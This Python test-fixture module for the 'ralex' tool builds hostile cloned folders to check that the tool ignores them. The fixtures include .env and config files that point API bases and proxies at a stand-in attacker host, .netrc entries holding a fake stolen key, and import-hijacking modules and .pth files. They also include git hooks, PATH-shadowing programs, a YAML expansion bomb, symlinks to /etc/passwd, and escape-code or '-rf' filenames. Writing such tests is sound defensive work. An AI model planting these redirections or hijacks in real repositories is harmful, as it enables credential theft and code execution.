"""Folders that somebody else has made, as a clone or an archive brings them, and that ralex is started in.

Each writes what would send requests to `evil`, or runs code that leaves the file `marker`, if ralex took any notice.
"""

from __future__ import annotations

import os
import stat
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path

Make = Callable[["Site"], None]

STOLEN_KEY = "sk-stolen-1f0c7d2e9b3a4c5d"


@dataclass(frozen=True)
class Site:
    """Where a hostile folder is made.

    Args:
        cwd: The folder; it exists.
        evil: The address of a server that must never be asked.
        marker: What hostile code writes when it runs.
        home: The user's own RALEX_HOME, for the few cases of a damaged one.
    """

    cwd: Path
    evil: str
    marker: Path
    home: Path

    def write(self, name: str, text: str) -> Path:
        path = self.cwd / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        return path

    def program(self, name: str) -> None:
        """A program that tells of having been run."""
        path = self.write(name, f"#!/bin/sh\necho {path_of(name)} >> '{self.marker}'\ncat > /dev/null\n")
        path.chmod(path.stat().st_mode | stat.S_IXUSR)

    def module(self, name: str) -> None:
        """A Python module that tells of having been imported."""
        self.write(name, f"open({str(self.marker)!r}, 'a').write(__name__ + '\\n')\n")


def path_of(name: str) -> str:
    return name.replace("'", "")


@dataclass(frozen=True)
class Folder:
    """A hostile folder.

    Args:
        name: What the folder itself is called.
        environ: What the user's own shell has set besides, such as a careless PATH.
        codes: How `ralex config check` and `ralex models` are to end: 0, unless the user's own home is damaged.
    """

    make: Make
    name: str = "repo"
    environ: Mapping[str, str] = field(default_factory=dict)
    codes: tuple[int, int] = (0, 0)


CONFIG = """
providers:
  lan: {{kind: openai, api_base: "{evil}/v1", api_key_env: LAN_KEY}}
  openai: {{kind: openai, api_base: "{evil}/v1"}}
tiers:
  cheap: {{models: [lan/small], max_tokens: 1000}}
budget: {{daily: "1000000"}}
prices: {{lan/small: {{input: "0", output: "0", source: own}}}}
"""


def config(site: Site) -> None:
    site.write("config.yaml", CONFIG.format(evil=site.evil))


def config_with_prices(site: Site) -> None:
    site.write("prices.yaml", 'prices: {lan/small: {input: "0", output: "0"}}\n')
    site.write("config/config.yaml", CONFIG.format(evil=site.evil))
    site.write("config/prices.yaml", 'lan/small: {input: "0", output: "0"}\n')


def config_bomb(site: Site) -> None:
    lines = ["budget: &a0 {daily: '1'}"] + [f"x{n}: &a{n} {{<<: [*a{n - 1}, *a{n - 1}]}}" for n in range(1, 40)]
    site.write("config.yaml", "\n".join(lines))


def config_fifo(site: Site) -> None:
    os.mkfifo(site.cwd / "config.yaml")


def config_huge(site: Site) -> None:
    with (site.cwd / "config.yaml").open("wb") as file:
        file.write(b"budget: {daily: '1'}\n")
        file.truncate(1_000_000_000)


def config_device(site: Site) -> None:
    (site.cwd / "config.yaml").symlink_to("/dev/zero")


def config_link(site: Site) -> None:
    (site.cwd / "config.yaml").symlink_to("/etc/passwd")


def config_folder(site: Site) -> None:
    site.write("config.yaml/budget", "1")


def config_unreadable(site: Site) -> None:
    site.write("config.yaml", CONFIG.format(evil=site.evil)).chmod(0)


def config_not_text(site: Site) -> None:
    (site.cwd / "config.yaml").write_bytes(b"budget:\xff\xfe\x00\x1b]0;owned\x07" * 50)


def themes(site: Site) -> None:
    site.write("themes/ralex-dark.yaml", f"name: ralex-dark\nextends: {site.evil}/x.yaml\n")
    site.write("config/themes/ralex-dark.yaml", "name: \x1b]0;owned\x07\n")


def dotenv(site: Site) -> None:
    host = site.evil.removeprefix("http://")
    lines = [
        f"OPENAI_API_KEY={STOLEN_KEY}",
        f"OPENROUTER_API_KEY={STOLEN_KEY}",
        *(f"{name}={site.evil}/v1" for name in ("OPENAI_BASE_URL", "OPENAI_API_BASE", "LAN_API_BASE")),
        *(f"{name}={site.evil}" for name in ("ANTHROPIC_BASE_URL", "ANTHROPIC_API_BASE", "OPENROUTER_API_BASE")),
        *(f"{name}={site.evil}" for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy")),
        "LITELLM_LOCAL_MODEL_COST_MAP=False",
        f"LITELLM_MODEL_COST_MAP_URL={site.evil}/map.json",
        "LITELLM_LOG=DEBUG",
        f"RALEX_HOME={site.cwd}/stolen",
        f"OTEL_EXPORTER_OTLP_ENDPOINT=http://{host}",
        f"LANGFUSE_HOST={site.evil}",
        "PYTHONPATH=.",
        "PYTHONSTARTUP=owned.py",
    ]
    for name in (".env", ".env.local", "env/.env", ".envrc"):
        site.write(name, "\n".join(lines) + "\n")
    site.module("owned.py")


def dotenv_fifo(site: Site) -> None:
    os.mkfifo(site.cwd / ".env")


def shadow_litellm(site: Site) -> None:
    for name in ("litellm/__init__.py", "litellm/main.py", "openai/__init__.py", "httpx/__init__.py", "certifi.py"):
        site.module(name)


def shadow_ralex(site: Site) -> None:
    for name in ("__init__.py", "__main__.py", "cli/__init__.py", "adapters/__init__.py", "adapters/engine_host.py"):
        site.module(f"ralex_tui/{name}")


def shadow_customize(site: Site) -> None:
    for name in ("sitecustomize.py", "usercustomize.py", "conftest.py", "setup.py", "ralex.py"):
        site.module(name)


def shadow_library(site: Site) -> None:
    for name in ("json", "ssl", "asyncio", "logging", "re", "socket", "tomllib", "yaml", "orjson", "textual", "click"):
        site.module(f"{name}.py")
    site.module("encodings/__init__.py")


def python_home(site: Site) -> None:
    site.write("pyvenv.cfg", f"home = {site.cwd}/bin\ninclude-system-site-packages = true\n")
    site.write("lib/python3.11/site-packages/evil.pth", f"import os; open({str(site.marker)!r}, 'a').write('pth')\n")
    site.write("evil.pth", f"import os; open({str(site.marker)!r}, 'a').write('pth')\n")
    site.program("bin/python")


def project_files(site: Site) -> None:
    site.write("pyproject.toml", f'[tool.ralex]\napi_base = "{site.evil}"\n[tool.litellm]\nproxy = "{site.evil}"\n')
    site.write("setup.cfg", f"[ralex]\napi_base = {site.evil}\n")
    site.write("ralex.toml", f'api_base = "{site.evil}"\n')
    for name in ("litellm_config.yaml", "proxy_server_config.yaml", "proxy_config.yaml"):
        site.write(name, f"model_list: [{{model_name: small, litellm_params: {{api_base: '{site.evil}'}}}}]\n")
    site.write("model_prices_and_context_window_backup.json", '{"lan/small": {"input_cost_per_token": 0}}')


def login_files(site: Site) -> None:
    host = site.evil.removeprefix("http://").partition(":")[0]
    for name in (".netrc", "_netrc"):
        site.write(name, f"machine {host} login evil password {STOLEN_KEY}\ndefault login evil password evil\n")
    site.write(".curlrc", f'proxy = "{site.evil}"\n')
    site.write(".wgetrc", f"http_proxy = {site.evil}\n")
    site.write("pip.conf", f"[global]\nindex-url = {site.evil}/simple\n")


def home_files(site: Site) -> None:
    for name in (".config/ralex/config.yaml", ".ralex/config.yaml", ".local/share/ralex/config.yaml", "ralex.yaml"):
        site.write(name, CONFIG.format(evil=site.evil))
    for name in ("RALEX_HOME", "RALEX_MODELS", "RALEX_CONFIG"):
        site.write(name, str(site.cwd))


def escape_codes(site: Site) -> None:
    config(site)


def links(site: Site) -> None:
    (site.cwd / "etc").symlink_to("/etc")
    (site.cwd / "loop").symlink_to("loop")
    (site.cwd / "here").symlink_to(".")
    (site.cwd / "config").symlink_to("/etc")
    (site.cwd / "data").symlink_to("/")
    (site.cwd / ".env").symlink_to("/etc/passwd")


def git_hooks(site: Site) -> None:
    for name in ("post-checkout", "pre-commit", "fsmonitor-watchman"):
        site.program(f".git/hooks/{name}")
    site.write(".git/config", f"[core]\n\tfsmonitor = {site.cwd}/.git/hooks/fsmonitor-watchman\n\tpager = sh\n")
    site.write(".git/HEAD", "ref: refs/heads/main\n")
    site.write(".gitattributes", "* filter=evil\n")


PROGRAMS = (
    *("wl-copy", "xclip", "xsel", "tmux", "xdg-open", "xdg-settings", "git", "python", "python3", "sh"),
    *("ldconfig", "gcc", "cc", "ld", "uname", "file", "locale"),
)
# A seat with a display and tmux, so that there is something to be looked for.
SEAT = {"WAYLAND_DISPLAY": "wayland-0", "DISPLAY": ":0", "TMUX": "/nowhere,1,0"}


def programs(site: Site) -> None:
    for name in PROGRAMS:
        site.program(name)
        site.program(f"node_modules/.bin/{name}")


def models(site: Site) -> None:
    site.write("local/README", "weights")
    for name in ("SmolLM2-135M-Instruct.Q4_1.gguf", "local/model.gguf", "models/SmolLM2-135M-Instruct.Q4_1.gguf"):
        path = site.cwd / name
        path.parent.mkdir(exist_ok=True)
        path.symlink_to("/dev/zero")
    for name in ("xllamacpp.py", "llama_cpp.py"):
        site.module(name)
    site.write("libllama.so", "not a library")


def gone(site: Site) -> None:
    site.cwd.rmdir()


def locked(site: Site) -> None:
    config(site)
    site.cwd.chmod(0o555)


def many_files(site: Site) -> None:
    for n in range(3_000):
        (site.cwd / f"{n:05}.py").touch()
    deep = site.cwd
    for _ in range(60):
        deep /= "deeper"
    deep.mkdir(parents=True)


def caches(site: Site) -> None:
    for name in (".cache/tiktoken/x", ".litellm_cache/x", "__pycache__/litellm.cpython-311.pyc", ".pytest_cache/x"):
        site.write(name, "\x00evil")
    site.write("litellm.log", "")


def everything(site: Site) -> None:
    """All that can stand in one folder."""
    for make in (config, config_with_prices, themes, dotenv, shadow_litellm, shadow_ralex, shadow_customize):
        make(site)
    for make in (shadow_library, python_home, project_files, login_files, home_files, git_hooks, programs, caches):
        make(site)


def home_loop(site: Site) -> None:
    (site.home / "config" / "config.yaml").unlink()
    (site.home / "config" / "config.yaml").symlink_to("config.yaml")


def home_themes(site: Site) -> None:
    folder = site.home / "config" / "themes"
    folder.mkdir()
    (folder / "evil.yaml").symlink_to("/dev/zero")
    os.mkfifo(folder / "fifo.yaml")


FOLDERS: Mapping[str, Folder] = {
    "config.yaml with another host": Folder(config),
    "config/ and prices.yaml": Folder(config_with_prices),
    "config.yaml that grows without end": Folder(config_bomb),
    "config.yaml is a pipe": Folder(config_fifo),
    "config.yaml of a gigabyte": Folder(config_huge),
    "config.yaml is a device": Folder(config_device),
    "config.yaml leads to /etc": Folder(config_link),
    "config.yaml is a folder": Folder(config_folder),
    "config.yaml can't be read": Folder(config_unreadable),
    "config.yaml is no text": Folder(config_not_text),
    "themes": Folder(themes),
    ".env": Folder(dotenv),
    ".env is a pipe": Folder(dotenv_fifo),
    "litellm, openai, httpx": Folder(shadow_litellm),
    "ralex_tui": Folder(shadow_ralex),
    "sitecustomize.py": Folder(shadow_customize),
    "the standard library": Folder(shadow_library),
    "pyvenv.cfg and .pth": Folder(python_home),
    "project files": Folder(project_files),
    ".netrc and the like": Folder(login_files),
    "a home in the folder": Folder(home_files),
    "a name with escape codes": Folder(escape_codes, name="\x1b]0;owned\x07\x1b[31mrepo"),
    "a name with newlines": Folder(escape_codes, name="-rf\n--home\n/"),
    "a name that runs backwards": Folder(escape_codes, name="\u202egnp.repo\u2066"),
    "links": Folder(links),
    ".git": Folder(git_hooks),
    "programs, and a relative PATH": Folder(programs, environ={"PATH": ".:node_modules/.bin:{PATH}", **SEAT}),
    "programs, and an empty entry of PATH": Folder(programs, environ={"PATH": ":{PATH}:", **SEAT}),
    "weights": Folder(models),
    "a folder that is gone": Folder(gone),
    "a folder that can't be written": Folder(locked),
    "thousands of files": Folder(many_files),
    "caches": Folder(caches),
    "all of it at once": Folder(
        everything, name="\x1b]0;owned\x07repo", environ={"PATH": ".:node_modules/.bin:{PATH}", **SEAT}
    ),
    "a config.yaml that leads to itself": Folder(home_loop, codes=(2, 2)),
    "themes that are pipes and devices": Folder(home_themes, codes=(2, 0)),
}
